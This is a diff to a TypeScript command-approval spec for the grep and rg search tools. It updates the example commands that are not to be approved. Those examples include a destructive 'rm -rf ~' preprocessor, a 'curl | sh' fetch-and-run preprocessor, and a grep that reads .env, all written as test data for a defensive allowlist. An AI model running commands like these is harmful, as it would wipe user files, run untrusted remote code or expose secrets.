@@ -9,7 +9,7 @@ export const SEARCH: Readonly<Record<string, ProgramSpec>> = {
     opts: "-E|--extended-regexp -F|--fixed-strings -G|--basic-regexp -P|--perl-regexp -e|--regexp=v -f|--file=r -i|-y|--ignore-case --no-ignore-case -w|--word-regexp -x|--line-regexp -z|--null-data -s|--no-messages -v|--invert-match -V -m|--max-count=v -b|--byte-offset -n|--line-number --line-buffered -H|--with-filename -h|--no-filename --label=v -o|--only-matching -q|--quiet|--silent --binary-files=v -a|--text -I -d|--directories=v -D|--devices=v -r|--recursive -R|--dereference-recursive --include=v --exclude=v --exclude-from=r --exclude-dir=v -L|--files-without-match -l|--files-with-matches -c|--count -T|--initial-tab -Z|--null -B|--before-context=v -A|--after-context=v -C|--context=v --group-separator=v --no-group-separator --color[=v] --colour[=v] -U|--binary",
     examples: {
       approve: ["grep -rn TODO src", "grep -E 'a|b' -C2 README.md"],
-      notApprove: ["grep --frob x", "grep -r secret ."],
+      notApprove: ["grep --frob x", "grep -f .env x"],
     },
   },
   rg: {
@@ -23,7 +23,7 @@ export const SEARCH: Readonly<Record<string, ProgramSpec>> = {
     },
     examples: {
       approve: ["rg -n foo src", "rg --glob '*.ts' bar", "rg -l TODO"],
-      notApprove: ["rg --pre 'rm -rf ~' x", "rg --pre=./evil.sh x", "rg --frobnicate x"],
+      notApprove: ["rg --pre 'rm -rf ~' x", "rg --pre='curl -s x | sh' x", "rg --frobnicate x"],
     },
   },
   fd: {
